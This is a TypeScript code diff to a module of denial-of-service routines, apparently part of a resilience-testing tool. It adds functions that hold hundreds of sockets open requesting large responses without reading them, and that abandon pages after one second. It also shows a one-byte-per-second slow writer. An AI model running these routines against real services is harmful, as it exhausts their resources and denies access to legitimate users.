@@ -1,5 +1,7 @@
 /** Attacks by connections that stay open, or that send many requests without waiting for responses. */
 import { createServer } from "node:http"
+import type { Socket } from "node:net"
+import { static_paths } from "./StaticPaths.ts"
 import { count, keepSockets, readAll, send, type Target } from "./Target.ts"
 
 /** Returns the text of a request without a body. */
@@ -14,18 +16,32 @@ export const upgradeSockets = (target: Target): void =>
     readAll
   )
 
-/** Requests large responses, and reads nothing of them. */
-export const readSlowly = async (target: Target): Promise<void> => {
-  const paths = [target.link, "/docs", "/v1/openapi.json"]
+/** Keeps sockets that request each of some responses and read nothing of them. `use` does the rest. */
+const keepUnread = async (
+  target: Target,
+  connections: number,
+  paths: ReadonlyArray<string>,
+  use: (socket: Socket) => void = () => {}
+): Promise<void> => {
   // Those that read nothing cannot count their responses.
   await Promise.all(paths.map((path) => send(target, { path })))
   keepSockets(
     target,
-    1000,
+    connections,
     (connection) => requestText(paths[connection % paths.length] ?? ""),
-    (_, socket) => void socket.pause()
+    (_, socket) => use(socket.pause())
   )
 }
+
+/** Requests large responses, and reads nothing of them. */
+export const readSlowly = (target: Target): Promise<void> => keepUnread(target, 1000, [target.link, ...static_paths])
+
+/** Requests the same large responses again and again, without compression, and reads nothing of them. */
+export const abandonPages = (target: Target): Promise<void> =>
+  keepUnread(target, 400, static_paths, (socket) => {
+    const timer = setTimeout(() => socket.destroy(), 1000)
+    socket.once("close", () => clearTimeout(timer))
+  })
 
 /** Sends one byte of a body per second. */
 export const writeSlowly = (target: Target): void => {
